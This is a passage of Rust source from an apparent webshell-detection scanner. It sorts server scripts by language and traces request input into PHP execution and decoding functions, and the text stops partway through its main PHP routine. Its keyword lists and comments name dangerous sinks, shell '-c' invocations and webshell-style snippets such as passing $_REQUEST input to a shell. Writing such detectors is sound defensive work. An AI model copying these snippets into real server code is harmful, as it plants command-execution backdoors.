//! Heuristics for scripts that no signature knows: request input reaching code or command
//! execution, decoder chains, long encoded blobs, names assembled from pieces, and packed code.
//! Each hit says in plain words what it saw.

use crate::Hit;
use crate::presence::{Held, Presence};
use firewarden_model::Severity;

/// What kind of server-side script a file is, from its name and first bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScriptKind {
    /// PHP (also `.phtml`, `.inc`, PHP hidden in other files).
    Php,
    /// JSP / JSPX.
    Jsp,
    /// ASP / ASPX / ASHX, and Razor pages (`.cshtml`, `.vbhtml`).
    Asp,
}

/// The script kind a file's extension says, or `None`.
pub fn script_kind_by_name(name: &str) -> Option<ScriptKind> {
    let ext = name.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase());
    match ext.as_deref()? {
        "php" | "php3" | "php4" | "php5" | "php7" | "php8" | "phtml" | "pht" | "phps" | "phar"
        | "inc" => Some(ScriptKind::Php),
        "jsp" | "jspx" | "jspf" => Some(ScriptKind::Jsp),
        "asp" | "aspx" | "ashx" | "asmx" | "asa" | "cer" | "cdx" | "ascx" | "asax" | "master"
        | "cshtml" | "vbhtml" => Some(ScriptKind::Asp),
        _ => None,
    }
}

/// The script kind of a file, or `None` for anything else.
pub fn script_kind(name: &str, data: &[u8]) -> Option<ScriptKind> {
    let head = &data[..data.len().min(64 << 10)];
    let has = |n: &[u8]| memchr::memmem::find(head, n).is_some();
    if let Some(kind) = script_kind_by_name(name) {
        // A file named for one language that holds none of its code but another's (a JSP page
        // or an ASP one saved as `.php`) is read as the server code it holds.
        let own_code = match kind {
            ScriptKind::Php => has(b"<?"),
            ScriptKind::Asp | ScriptKind::Jsp => {
                has(b"<%")
                    || has(b"<jsp:")
                    || head.windows(6).any(|w| w.eq_ignore_ascii_case(b"runat="))
            }
        };
        if own_code {
            return Some(kind);
        }
        return Some(kind_by_content(head).unwrap_or(kind));
    }
    // Shells hide behind other names (`x.jpg`, `a.php.txt`, `404.html`): look for server code
    // in the first 64 KiB.
    kind_by_content(head)
}

/// The server code found in the first bytes of a file, if any.
fn kind_by_content(head: &[u8]) -> Option<ScriptKind> {
    let has = |n: &[u8]| memchr::memmem::find(head, n).is_some();
    if has(b"<?php") || has(b"<?PHP") || has(b"<?=") {
        return Some(ScriptKind::Php);
    }
    if !has(b"<%") {
        return None;
    }
    let lower = head.to_ascii_lowercase();
    let has_l = |n: &[u8]| memchr::memmem::find(&lower, n).is_some();
    if has_l(b"runat=\"server\"")
        || has_l(b"language=\"c#\"")
        || has_l(b"language=\"vb")
        || has_l(b"language=\"jscript")
        || has_l(b"<%@ language")
        || has_l(b"<%@language")
        || has_l(b"request.form")
        || has_l(b"request.querystring")
        || has_l(b"request.item")
        || has_l(b"response.write")
        || has_l(b"server.createobject")
    {
        Some(ScriptKind::Asp)
    } else if has_l(b"<%@ page")
        || has_l(b"<%@page")
        || has_l(b"<jsp:")
        || has_l(b"request.getparameter")
    {
        Some(ScriptKind::Jsp)
    } else {
        None
    }
}

pub(crate) const PHP_INPUT: &[&str] = &[
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "$_files",
    "$_server['http_",
    "$_server[\"http_",
    "php://input",
    "getallheaders",
    // PHP 4's names of the same arrays, still in old shells.
    "$http_get_vars",
    "$http_post_vars",
    "$http_cookie_vars",
    "$http_post_files",
    // Functions that hand back the request: filtered input, headers, CGI's `HTTP_*`.
    "filter_input(",
    "apache_request_headers",
    "getenv('http_",
    "getenv(\"http_",
];
pub(crate) const PHP_EXEC: &[&str] = &[
    "eval(",
    "assert(",
    "system(",
    "passthru(",
    "shell_exec(",
    "exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "create_function(",
];
const DECODERS: &[&str] = &[
    "base64_decode(",
    "gzinflate(",
    "gzuncompress(",
    "gzdecode(",
    "str_rot13(",
    "strrev(",
    "hex2bin(",
    "convert_uudecode(",
];
/// Where each group of words of the PHP statement checks starts in [`php_words`]' list.
const INPUT_WORDS: usize = 0;
const EXEC_WORDS: usize = INPUT_WORDS + PHP_INPUT.len();
const EVAL_WORD: usize = EXEC_WORDS;
const ASSERT_WORD: usize = EXEC_WORDS + 1;
const DECODER_WORDS: usize = EXEC_WORDS + PHP_EXEC.len();
const ESCAPE_WORDS: usize = DECODER_WORDS + DECODERS.len();
const PREG_WORD: usize = ESCAPE_WORDS + 3;
const TICK_WORD: usize = PREG_WORD + 1;
const INCLUDE_WORDS: usize = TICK_WORD + 1;
const RECON_WORDS: usize = INCLUDE_WORDS + 2;

/// The words the PHP statement checks look for, found in one pass over a file.
fn php_words() -> &'static Presence {
    static WORDS: std::sync::OnceLock<Presence> = std::sync::OnceLock::new();
    WORDS.get_or_init(|| {
        let escapes = ["htmlspecialchars(", "escapeshellarg(", "escapeshellcmd("];
        let rest = ["preg_replace(", "`", "include", "require"];
        Presence::new(
            PHP_INPUT
                .iter()
                .chain(PHP_EXEC)
                .chain(DECODERS)
                .chain(&escapes)
                .chain(&rest)
                .chain(RECON_COMMANDS)
                .copied()
                .collect(),
        )
    })
}

/// Each `$name` in `s` with where it starts (`$` alone, as in `$$x`, is not one).
pub(crate) fn variables(s: &str) -> impl Iterator<Item = (usize, &str)> {
    memchr::memchr_iter(b'$', s.as_bytes()).filter_map(move |p| {
        let rest = &s[p + 1..];
        let len = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        (len > 0).then(|| (p, &s[p..p + 1 + len]))
    })
}

pub(crate) const DANGEROUS_NAMES: &[&str] = &[
    "eval",
    "assert",
    "system",
    "passthru",
    "shell_exec",
    "exec",
    "popen",
    "proc_open",
    "create_function",
    "base64_decode",
    "gzinflate",
    "str_rot13",
    "call_user_func",
    "preg_replace",
    "file_put_contents",
    "move_uploaded_file",
];

/// Runs every heuristic that applies to a script of `kind`.
pub fn scan_script(kind: ScriptKind, data: &[u8]) -> Vec<Hit> {
    scan_script_until(kind, data, None).0
}

/// [`scan_script`] that stops at `deadline` (the scan's `--file-timeout`); the flag says it
/// stopped early, with the hits found until then.
pub fn scan_script_until(
    kind: ScriptKind,
    data: &[u8],
    deadline: Option<std::time::Instant>,
) -> (Vec<Hit>, bool) {
    // Pages hidden with Microsoft's Script Encoder are read as the server reads them.
    let Some(decoded) = (kind == ScriptKind::Asp)
        .then(|| crate::decode::script_encoder(data))
        .flatten()
    else {
        return scan_text(kind, data, deadline);
    };
    let (mut hits, stopped) = scan_text(kind, &decoded.text, deadline);
    for h in &mut hits {
        // Offsets in the decoded text mean nothing in the file.
        h.offset = None;
        h.why.push_str(&format!(
            " (read after decoding the page's {} Script Encoder block(s), {} confirmed by their checksum)",
            decoded.blocks, decoded.verified
        ));
    }
    (hits, stopped)
}

fn scan_text(
    kind: ScriptKind,
    data: &[u8],
    deadline: Option<std::time::Instant>,
) -> (Vec<Hit>, bool) {
    let late = || deadline.is_some_and(|d| std::time::Instant::now() >= d);
    let text = String::from_utf8_lossy(data);
    let mut lower = text.to_ascii_lowercase();
    if kind == ScriptKind::Php {
        unalias_superglobals(&mut lower);
    }
    let mut hits = Vec::new();
    // A Perl shell saved under a page's name is read as the Perl it is.
    crate::perl::scan(&lower, &mut hits);
    let finished = match kind {
        ScriptKind::Php => {
            let done = php(&lower, &mut hits, &late);
            // Folding needs the original case: base64 is case-sensitive. It finds what the
            // simpler assembled-name check finds too; one explanation is enough.
            if done
                && !late()
                && !hits
                    .iter()
                    .any(|h| h.check == "scan.heuristic.assembled_name")
            {
                crate::php_fold::scan(&text, &lower, &mut hits, &late);
            }
            done
        }
        ScriptKind::Jsp => {
            jsp(&lower, &mut hits);
            true
        }
        ScriptKind::Asp => {
            asp(&lower, &mut hits);
            true
        }
    };
    drop(text);
    if !finished || late() {
        return (hits, true);
    }
    encoded_blob(&lower, kind, &mut hits);
    embedded_program(&lower, &mut hits);
    database_commands(&lower, &mut hits);
    if kind != ScriptKind::Php {
        let named: Vec<&str> = RECON_COMMANDS
            .iter()
            .filter(|c| lower.contains(**c))
            .copied()
            .collect();
        recon_commands(&lower, &named, &mut hits);
    }
    windows_backdoors(&lower, &mut hits);
    if late() {
        return (hits, true);
    }
    packed(data, &mut hits);
    (hits, false)
}

/// `$GLOBALS['_POST']` and `${"_GET"}` are the request arrays under another name: written
/// as `$_POST` and `$_GET` (spaces before them keep every offset), the checks that look for
/// request input see them.
fn unalias_superglobals(t: &mut String) {
    const ARRAYS: &[&str] = &["get", "post", "request", "cookie", "files"];
    let quotes = ['\'', '"'];
    let mut found: Vec<(usize, usize, &str)> = Vec::new();
    for open in ["$globals[", "${"] {
        for p in find_all(t, open).take(10_000) {
            let rest = &t[p + open.len()..];
            let Some(q) = rest.strip_prefix(quotes).and_then(|r| r.strip_prefix('_')) else {
                continue;
            };
            let Some(name) = ARRAYS.iter().find(|a| q.starts_with(**a)) else {
                continue;
            };
            let close = if open == "${" { "}" } else { "]" };
            let tail = &q[name.len()..];
            if tail
                .strip_prefix(quotes)
                .is_some_and(|r| r.starts_with(close))
            {
                found.push((p, t.len() - tail.len() + 2, name));
            }
        }
    }
    if found.is_empty() {
        return;
    }
    // One copy, piece by piece; every range is ASCII text found above.
    found.sort_unstable();
    let mut out = String::with_capacity(t.len());
    let mut copied = 0;
    for (start, end, name) in found {
        if start < copied {
            continue;
        }
        out.push_str(&t[copied..start]);
        let plain = format!("$_{name}");
        out.extend(std::iter::repeat_n(' ', end - start - plain.len()));
        out.push_str(&plain);
        copied = end;
    }
    out.push_str(&t[copied..]);
    *t = out;
}

/// `foreach (EXPR as $k => $v)` in statement `s`: the walked expression and the variables.
fn foreach_variables(s: &str) -> Option<(&str, Vec<&str>)> {
    let open = s.find("foreach")? + "foreach".len();
    let head = s[open..].trim_start().strip_prefix('(')?;
    let head = &head[..head.rfind(')').unwrap_or(head.len())];
    let (walked, vars) = head.split_once(" as ")?;
    let vars = vars
        .split("=>")
        .map(|v| v.trim().trim_start_matches('&'))
        .filter(|v| v.len() > 1 && v.starts_with('$') && v[1..].chars().all(crate::flows::is_ident))
        .collect();
    Some((walked.trim(), vars))
}

/// `$this->name` for each property the file fills from request input (`$o->code = $_POST['z']`,
/// `$this->code = $_GET['c']`), at most 16, from the first 20,000 `->`.
fn input_properties(t: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for p in find_all(t, "->").take(20_000) {
        let rest = &t[p + 2..];
        let len = rest
            .find(|c: char| !crate::flows::is_ident(c))
            .unwrap_or(rest.len());
        let after = rest[len..].trim_start();
        if len == 0 || !after.starts_with('=') || after[1..].starts_with(['=', '>']) {
            continue;
        }
        let stmt = near(after, 1024);
        let stmt = &stmt[..stmt.find(';').unwrap_or(stmt.len())];
        let name = format!("$this->{}", &rest[..len]);
        if from_input(stmt) && !out.contains(&name) {
            out.push(name);
            if out.len() >= 16 {
                break;
            }
        }
    }
    constructed_properties(t, &mut out);
    out
}

/// The names of the file's functions (the first 16) that return request input: `function
/// get($k) { return isset($_REQUEST[$k]) ? $_REQUEST[$k] : null; }`. Read from the first
/// 20,000 `return`s back to the function around each (one pass over the file, not one per
/// input word).
fn input_getters(t: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for r in find_all(t, "return").take(20_000) {
        let value = near(&t[r + "return".len()..], 512);
        let value = &value[..value.find(';').unwrap_or(value.len())];
        let gives_input = match ternary_branches(value) {
            Some((yes, no)) => value_from_input(yes) || value_from_input(no),
            None => value_from_input(value),
        };
        if !gives_input || t[..r].ends_with(|c: char| crate::flows::is_ident(c) || c == '$') {
            continue;
        }
        // The function it returns from: the last `function ` within 2 KiB before it.
        let from = t.floor_char_boundary(r.saturating_sub(2048));
        let Some(f) = t[from..r].rfind("function ") else {
            continue;
        };
        let rest = &t[from + f + "function ".len()..r];
        let name = &rest[..rest
            .find(|c: char| !crate::flows::is_ident(c))
            .unwrap_or(rest.len())];
        if !name.is_empty() && !out.iter().any(|n| n == name) {
            out.push(name.to_string());
            if out.len() >= 16 {
                break;
            }
        }
    }
    out
}

/// Whether `value` is a call of one of the `getters` (as a function, not a method).
fn calls_getter(value: &str, getters: &[String]) -> bool {
    let v = bare_php_value(value);
    getters.iter().any(|g| {
        v.strip_prefix(g.as_str())
            .is_some_and(|r| r.trim_start().starts_with('('))
    })
}

/// `$this->p` for each property a constructor fills from its parameter
/// (`function __construct($c) { $this->c = $c; }`) when the file makes an object of the class
/// with request input in that place (`new Runner($_GET['c'])`): the first 16 constructors.
fn constructed_properties(t: &str, out: &mut Vec<String>) {
    for at in find_all(t, "function __construct").take(16) {
        // The class it belongs to: the last `class Name` within 64 KiB before it.
        let from = t.floor_char_boundary(at.saturating_sub(65_536));
        let Some(c) = t[from..at].rfind("class ") else {
            continue;
        };
        let class = t[from + c + "class ".len()..].trim_start();
        let class = &class[..class
            .find(|c: char| !crate::flows::is_ident(c))
            .unwrap_or(0)];
        let head = near(&t[at + "function __construct".len()..], 2048);
        let Some(params) = crate::php_tricks::arguments(head.trim_start()) else {
            continue;
        };
        // The parameters' names, without their types and defaults: `string $c = ''`.
        let names: Vec<&str> = params
            .iter()
            .map(|p| {
                let p = p.split('=').next().unwrap_or(p);
                p.rfind('$').map_or("", |d| p[d..].trim())
            })
            .collect();
        // Which of them an object of the class is made with from request input.
        let fed: Vec<&str> = find_all(t, &format!("new {class}("))
            .take(64)
            .filter(|_| !class.is_empty())
            .filter_map(|n| {
                crate::php_tricks::arguments(near(&t[n + "new ".len() + class.len()..], 2048))
            })
            .flat_map(|args| {
                args.into_iter()
                    .zip(&names)
                    .filter(|(a, _)| value_from_input(a))
                    .map(|(_, n)| *n)
            })
            .collect();
        if fed.is_empty() {
            continue;
        }
        // The constructor's body: its first 2 KiB.
        let body = near(&head[head.find('{').unwrap_or(head.len())..], 2048);
        let body = &body[..body.find("function ").unwrap_or(body.len())];
        for p in find_all(body, "$this->") {
            let rest = &body[p + "$this->".len()..];
            let len = rest
                .find(|c: char| !crate::flows::is_ident(c))
                .unwrap_or(rest.len());
            let Some(value) = rest[len..].trim_start().strip_prefix('=') else {
                continue;
            };
            let value = value.trim_start();
            let name = format!("$this->{}", &rest[..len]);
            if len > 0
                && fed.iter().any(|f| {
                    !f.is_empty()
                        && starts_with_name(value, f)
                        && value[f.len()..].trim_start().starts_with(';')
                })
                && !out.contains(&name)
                && out.len() < 16
            {
                out.push(name);
            }
        }
    }
}

/// The arguments of the `sink…(` call in statement `s` that hold what it runs: the code or
/// command (the first), `create_function`'s body (the second), and `pcntl_exec`'s path and
/// argument list. A call not closed within the statement is read as one argument.
fn run_arguments<'a>(s: &'a str, sink: &str) -> Vec<&'a str> {
    // The call itself, not a method of the same name before it (`$db->exec(…)`).
    let Some(p) = find_all(s, sink).find(|&at| plain_name_at(s, at)) else {
        return Vec::new();
    };
    let open = &s[p + sink.len() - 1..];
    let args = crate::php_tricks::arguments(near(open, 4096))
        .unwrap_or_else(|| vec![near(&open[1..], 4096)]);
    let (from, to) = match sink {
        "create_function(" => (1, 2),
        "pcntl_exec(" => (0, 2),
        _ => (0, 1),
    };
    args.into_iter().skip(from).take(to - from).collect()
}

/// Whether `value` puts request input, or a variable that holds it, together with other
/// text: a part of a `.` concatenation (`"ls " . $d`), a variable in a double-quoted string
/// (`"ls $d"`), an element of an array literal (`array('-c', $d)`), or an argument of a call
/// that only joins or splits text (`sprintf('%s 2>&1', $d)`, `implode(' ', $parts)`), two
/// levels deep at most; not through any other call (`escapeshellarg($d)`, `intval(…)`).
fn composes_input(value: &str, tainted: &[String], composed: &[String]) -> bool {
    let value = near(value, 4096);
    // `isset($q['c']) ? $q['c'] : 'id'`: what either branch gives, not what the test reads.
    if let Some((yes, no)) = ternary_branches(value) {
        return [yes, no].iter().any(|b| {
            concatenated(b)
                .take(64)
                .any(|part| holds_input(part, tainted, composed, 0))
        });
    }
    concatenated(value)
        .take(64)
        .any(|part| holds_input(part, tainted, composed, 0))
}

/// The two branches of a `test ? yes : no` at the top level of `v` (outside strings and
/// brackets), up to the end of the statement; not `??`, `?->` or `::`.
fn ternary_branches(v: &str) -> Option<(&str, &str)> {
    let b = v.as_bytes();
    let (mut depth, mut quote, mut question) = (0usize, None, None);
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if let Some(q) = quote {
            if c == b'\\' {
                i += 1;
            } else if c == q {
                quote = None;
            }
            i += 1;
            continue;
        }
        match c {
            b'"' | b'\'' => quote = Some(c),
            b'(' | b'[' => depth += 1,
            b')' | b']' if depth == 0 => return None,
            b')' | b']' => depth -= 1,
            b';' if depth == 0 => return None,
            b'?' if depth == 0 && question.is_none() => {
                if matches!(b.get(i + 1), Some(b'?' | b'-' | b'>' | b':')) {
                    // `??`, `?->`, `?>` and `?:` (the test itself is the value).
                    return None;
                }
                question = Some(i);
            }
            b':' if depth == 0 && question.is_some() => {
                if b.get(i + 1) == Some(&b':') {
                    i += 2;
                    continue;
                }
                let q = question.unwrap_or(0);
                return Some((&v[q + 1..i], &v[i + 1..]));
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Whether offset `at` lies inside one of the `spans` of `php_tricks::comment_spans`.
fn in_comment(spans: &[(usize, usize)], at: usize) -> bool {
    let k = spans.partition_point(|&(start, _)| start <= at);
    k > 0 && at < spans[k - 1].1
}

/// The place a statement assigns to, when it is not a plain variable, and the value:
/// `$a` for `$a['k'] = …` (any number of keys), `$o->p` for `$o->p = …`, `a::$p` for
/// `A::$p = …` (the text is lower-case).
fn assigned_place(s: &str) -> Option<(&str, &str)> {
    let t = statement_start(s);
    let ident_len = |r: &str| {
        r.find(|c: char| !crate::flows::is_ident(c))
            .unwrap_or(r.len())
    };
    let (place, mut rest) = if let Some(r) = t.strip_prefix('$') {
        let n = ident_len(r);
        if n == 0 {
            return None;
        }
        let after = &r[n..];
        if let Some(p) = after.strip_prefix("->") {
            let m = ident_len(p);
            (m > 0).then_some(())?;
            (&t[..1 + n + 2 + m], &p[m..])
        } else if after.starts_with('[') {
            (&t[..1 + n], after)
        } else {
            return None;
        }
    } else {
        let n = ident_len(t);
        let p = t[n..].strip_prefix("::$")?;
        let m = ident_len(p);
        (n > 0 && m > 0).then_some(())?;
        (&t[..n + 3 + m], &p[m..])
    };
    // The keys of `$a['k']['j']`, each closed within 256 bytes.
    for _ in 0..8 {
        let Some(index) = rest.strip_prefix('[') else {
            break;
        };
        rest = &index[near(index, 256).find(']')? + 1..];
    }
    let value = rest.trim_start().strip_prefix('=')?;
    (!value.starts_with(['=', '>'])).then_some((place, value))
}

/// The names a `list($a, $b) = …` or `[$a, $b] = …` statement sets, and its value.
fn destructured(s: &str) -> Option<(Vec<&str>, &str)> {
    let t = statement_start(s);
    let list = if let Some(rest) = t.strip_prefix("list") {
        rest.trim_start()
    } else if t.starts_with("[$") {
        t
    } else {
        return None;
    };
    let items = crate::php_tricks::arguments(near(list, 1024))?;
    // The list's own `)` or `]`, after its last item (not one of a key: `[$a['k'], $b]`).
    let last = items.last()?;
    let after = last.as_ptr() as usize + last.len() - list.as_ptr() as usize;
    let close = after + list[after..].find([')', ']'])?;
    let value = list[close + 1..].trim_start().strip_prefix('=')?;
    if value.starts_with(['=', '>']) {
        return None;
    }
    let names: Vec<&str> = items
        .iter()
        .map(|i| i.rsplit_once("=>").map_or(*i, |(_, v)| v).trim())
        .filter(|n| n.starts_with('$') && n[1..].chars().all(crate::flows::is_ident) && n.len() > 1)
        .take(16)
        .collect();
    (!names.is_empty()).then_some((names, value))
}

/// Calls whose value is their arguments' text, rearranged, split or turned character by
/// character (`chr(ord($c) ^ $k)`, a decoding loop's step).
const COMPOSING_CALLS: &[&str] = &[
    "sprintf(",
    "vsprintf(",
    "implode(",
    "join(",
    "explode(",
    "str_split(",
    "preg_split(",
    "array_slice(",
    "str_replace(",
    "strtr(",
    "urldecode(",
    "rawurldecode(",
    "chr(",
    "ord(",
    // `chr(hexdec(substr($t, $i, 2)))`: a hex pair read as its character's code.
    "hexdec(",
    "octdec(",
    "bindec(",
];

/// Whether `value` hands escaped input to a shell as its whole command line:
/// `'/bin/bash -c ' . escapeshellarg($c)`. Quoting makes the input one argument, and the
/// argument of `-c` is what the shell runs.
fn escaped_into_shell(value: &str, tainted: &[String], composed: &[String]) -> bool {
    const SHELL_C: &[&str] = &[
        "sh -c",
        "bash -c",
        "zsh -c",
        "cmd /c",
        "cmd.exe /c",
        "powershell -c",
        "powershell -command",
        "pwsh -c",
    ];
    let parts: Vec<&str> = concatenated(near(value, 4096)).take(64).collect();
    parts.windows(2).any(|w| {
        let shell = w[0].trim().trim_matches(['\'', '"']).trim_end();
        SHELL_C.iter().any(|c| shell.ends_with(c))
            && ["escapeshellarg(", "escapeshellcmd("]
                .iter()
                .find_map(|e| w[1].trim().strip_prefix(e))
                .is_some_and(|inner| holds_input(inner, tainted, composed, 0))
    })
}

/// One part of a concatenation, for `composes_input`: `depth` is how many array literals or
/// composing calls it is inside.
fn holds_input(part: &str, tainted: &[String], composed: &[String], depth: usize) -> bool {
    let part = crate::php_tricks::unwrapped(part.trim());
    let names = || tainted.iter().chain(composed);
    if PHP_INPUT.iter().any(|i| part.starts_with(i)) || names().any(|v| starts_with_name(part, v)) {
        return true;
    }
    if part.starts_with('"') {
        return PHP_INPUT.iter().any(|i| part.contains(i))
            || names().any(|v| crate::php_tricks::uses(part, v));
    }
    if depth >= 2 {
        return false;
    }
    // `array_map('trim', explode(',', $d))`: each element still the input's, when the
    // callback only trims or decodes (not `intval`, not a closure).
    if let Some(rest) = part.strip_prefix("array_map(")
        && let Some(args) = crate::php_tricks::arguments(&part["array_map".len()..])
        && let [callback, arrays @ ..] = &args[..]
        && let Some(name) = callback
            .trim()
            .strip_prefix(['\'', '"'])
            .and_then(|c| c.strip_suffix(['\'', '"']))
        && crate::php_tricks::keeps_text(name)
        && !rest.is_empty()
    {
        return arrays.iter().take(8).any(|a| {
            concatenated(a)
                .take(64)
                .any(|p| holds_input(p, tainted, composed, depth + 1))
        });
    }
    // The list from its `(` or `[`.
    let list = if let Some(call) = COMPOSING_CALLS.iter().find(|c| part.starts_with(**c)) {
        &part[call.len() - 1..]
    } else if part.starts_with("array(") {
        &part["array".len()..]
    } else if part.starts_with('[') {
        part
    } else {
        return false;
    };
    crate::php_tricks::arguments(list).is_some_and(|items| {
        items.iter().take(64).any(|item| {
            // `'k' => $v`: the value.
            let item = item.rsplit_once("=>").map_or(*item, |(_, v)| v);
            concatenated(item)
                .take(64)
                .any(|p| holds_input(p, tainted, composed, depth + 1))
        })
    })
}

/// The parts of a PHP expression joined by `.` at its top level (outside strings, calls and
/// brackets), up to the end of the statement.
fn concatenated(v: &str) -> impl Iterator<Item = &str> {
    let mut parts = Vec::new();
    let (mut depth, mut start) = (0usize, 0);
    for (i, c) in crate::php_tricks::unquoted(v) {
        match c {
            '(' | '[' => depth += 1,
            ')' | ']' if depth == 0 => break,
            ')' | ']' => depth -= 1,
            ';' | ',' if depth == 0 => {
                parts.push(&v[start..i]);
                return parts.into_iter();
            }
            // Not a decimal point: `1.5`.
            '.' if depth == 0
                && !(v[..i].ends_with(|c: char| c.is_ascii_digit())
                    && v[i + 1..].starts_with(|c: char| c.is_ascii_digit())) =>
            {
                parts.push(&v[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    parts.push(&v[start..]);
    parts.into_iter()
}

/// Whether `rhs` is a variable that holds input, or one element of it, and nothing else:
/// `$c = $k['a'];` after `$k = $_COOKIE;`.
fn copies_tainted(rhs: &str, tainted: &[String]) -> bool {
    // `array_keys($s)[0]`, `end($s)`, `json_decode($s)`: the keys or one element of it, or
    // what it says.
    let value = parsed(rhs.trim_start().trim_start_matches('@'));
    fn element(rest: &str) -> Option<&str> {
        match rest.strip_prefix('[') {
            Some(index) => near(index, 256).find(']').map(|close| &index[close + 1..]),
            None => Some(rest),
        }
    }
    tainted.iter().any(|v| {
        value.strip_prefix(v.as_str()).is_some_and(|rest| {
            let Some(mut rest) = element(rest) else {
                return false;
            };
            // The `)` of each call taken off, and an element of what it gives.
            for _ in 0..4 {
                match rest.trim_start().strip_prefix(')').map(element) {
                    Some(Some(r)) => rest = r,
                    Some(None) => return false,
                    None => break,
                }
            }
            rest.trim_start().starts_with([';', '\n']) || rest.trim().is_empty()
        })
    })
}

/// Calls that give back an array's keys or elements: what they give of request input is
/// request input.
pub(crate) const ELEMENT_CALLS: &[&str] = &[
    "array_keys(",
    "array_values(",
    "array_pop(",
    "array_shift(",
    "array_reverse(",
    "end(",
    "reset(",
    "current(",
    "key(",
];

/// Whether `value`, an assigned value and the file's text after it, is a heredoc
/// (`<<<EOT … EOT;`, not a `<<<'EOT'` nowdoc) whose first 4 KiB hold request input or a
/// variable that holds it: `$cmd = <<<CMD` then `{$_POST['q']} 2>&1`.
fn heredoc_holds_input(value: &str, tainted: &[String], composed: &[String]) -> bool {
    let Some(head) = value.trim_start().strip_prefix("<<<") else {
        return false;
    };
    let head = head.trim_start_matches([' ', '\t']);
    if head.starts_with('\'') {
        return false;
    }
    let head = head.trim_start_matches('"');
    let len = head
        .find(|c: char| !crate::flows::is_ident(c))
        .unwrap_or(head.len());
    let (label, rest) = head.split_at(len);
    let Some(body) = rest.trim_start_matches('"').strip_prefix(['\n', '\r']) else {
        return false;
    };
    let body = near(body, 4096);
    // To the line that starts with the label (indented, as PHP 7.3 allows).
    let end = body
        .split_inclusive('\n')
        .scan(0, |at, line| {
            let start = *at;
            *at += line.len();
            Some((start, line))
        })
        .find(|(_, line)| {
            line.trim_start()
                .strip_prefix(label)
                .is_some_and(|r| !r.starts_with(crate::flows::is_ident))
        })
        .map_or(body.len(), |(start, _)| start);
    let body = &body[..end];
    !label.is_empty()
        && (PHP_INPUT.iter().any(|i| body.contains(i))
            || tainted
                .iter()
                .chain(composed)
                .any(|v| crate::php_tricks::uses(body, v)))
}

/// `$name` and what follows the `.=` in `$name .= …` at the start of a statement.
fn appended_variable(s: &str) -> Option<(&str, &str)> {
    let t = statement_start(s);
    let rest = t.strip_prefix('$')?;
    let len = rest.find(|c: char| !crate::flows::is_ident(c))?;
    let value = rest[len..].trim_start().strip_prefix(".=")?;
    (len > 0).then(|| (&t[..len + 1], value))
}

/// The text of `t` from the `;` or line break before `start` to the one after `end`, at most
/// 4 KiB either side.
fn line_around(t: &str, start: usize, end: usize) -> &str {
    let from = t.floor_char_boundary(start.saturating_sub(4096));
    let from = t[from..start]
        .rfind([';', '\n'])
        .map_or(from, |p| from + p + 1);
    let rest = &t[end..];
    let rest = &rest[..rest.floor_char_boundary(4096)];
    let to = end + rest.find([';', '\n']).map_or(rest.len(), |p| p + 1);
    &t[from..to]
}

/// The statements of PHP text `t` as the walk reads them: split after each `;`, line break
/// and brace, except that a `{$…}` inside a double-quoted string (`"ls {$_GET['c']}"`) stays
/// in its statement, read on until the string's quotes close, within 4 KiB.
fn php_statements(t: &str) -> impl Iterator<Item = &str> {
    // `"` not escaped with a backslash.
    fn quotes(s: &str) -> usize {
        memchr::memchr_iter(b'"', s.as_bytes())
            .filter(|&p| p == 0 || s.as_bytes()[p - 1] != b'\\')
            .count()
    }
    let mut pieces = t.split_inclusive([';', '\n', '{', '}']);
    let base = t.as_ptr() as usize;
    std::iter::from_fn(move || {
        let first = pieces.next()?;
        let start = first.as_ptr() as usize - base;
        let mut end = start + first.len();
        if first.ends_with('{') && t[end..].starts_with('$') {
            let mut open = quotes(first);
            if !open.is_multiple_of(2) {
                for next in pieces.by_ref() {
                    end += next.len();
                    open += quotes(next);
                    if open.is_multiple_of(2) || next.ends_with([';', '\n']) || end - start > 4096 {
                        break;
                    }
                }
            }
        }
        Some(&t[start..end])
    })
}

/// A heuristic hit of a webshell (ATT&CK T1505.003) at `offset`.
pub(crate) fn hit(
    id: &'static str,
    severity: Severity,
    title: &str,
    why: String,
    offset: usize,
) -> Hit {
    Hit {
        check: id,
        severity,
        title: title.to_string(),
        why,
        attack: vec!["T1505.003".into()],
        offset: Some(offset),
        rule: None,
    }
}

/// The PHP heuristics; false when `late` said to stop before the end.
fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
    // Statement by statement: input and sink in the same statement is what makes a webshell;
    // the same two words far apart are every CMS.
    let mut at = 0;
    // Variables assigned straight from request input: `$c = $_REQUEST['cmd'];`, and
    // properties filled from it anywhere in the file (`$o->code = $_POST['z']`), read in a
    // method as `$this->code` that may come first.
    let mut tainted: Vec<String> = input_properties(t);
    // Functions of the file that return request input: `function get($k) { return
    // $_REQUEST[$k]; }`. What they return is input where it is assigned or run.
    let getters = input_getters(t);
    // Variables that hold request input put together with other text (`$c = "ls " . $d`,
    // `$a = array('-c', $_GET['x'])`). Only an execution sink's argument reads them: a
    // dispatcher's `$f = 'do_' . $_GET['op']` is not a webshell until its value runs.
    let mut composed: Vec<String> = Vec::new();
    let parses = find(t, "parse_str(").is_some();
    let matches = find(t, "preg_match").is_some();
    // A heredoc's body is read with the statement that assigns it: `$c = <<<EOT`.
    let heredocs = find(t, "<<<").is_some();
    // Heredocs read so far: the first 4,096 are (4 KiB each), past which a page of heredocs
    // that never close would be read again and again.
    let mut heredocs_read = 0;
    // Where the file's comments are, found when a statement first needs it: the first
    // 65,536 (1 MiB of spans), past which a file of millions of `#` lines is read as code.
    let comments = std::cell::OnceCell::new();
    // Every statement test below needs request input, a variable holding it, or eval/assert:
    // statements with none of them (most of any file) are skipped. What each statement holds
    // comes from one pass over the file, not from a search per word per statement.
    let mut marks = php_words().marks(t);
    // The words seen in the statements walked so far: the whole file's once the walk ends.
    let mut seen = Held::default();
    let mut lines_read = 0;
    // A shell started with no command (`popen('/bin/sh', 'w')`): what is written to it runs.
    let bare_shell = bare_shell_opened(t);
    for (n, s) in php_statements(t).enumerate() {
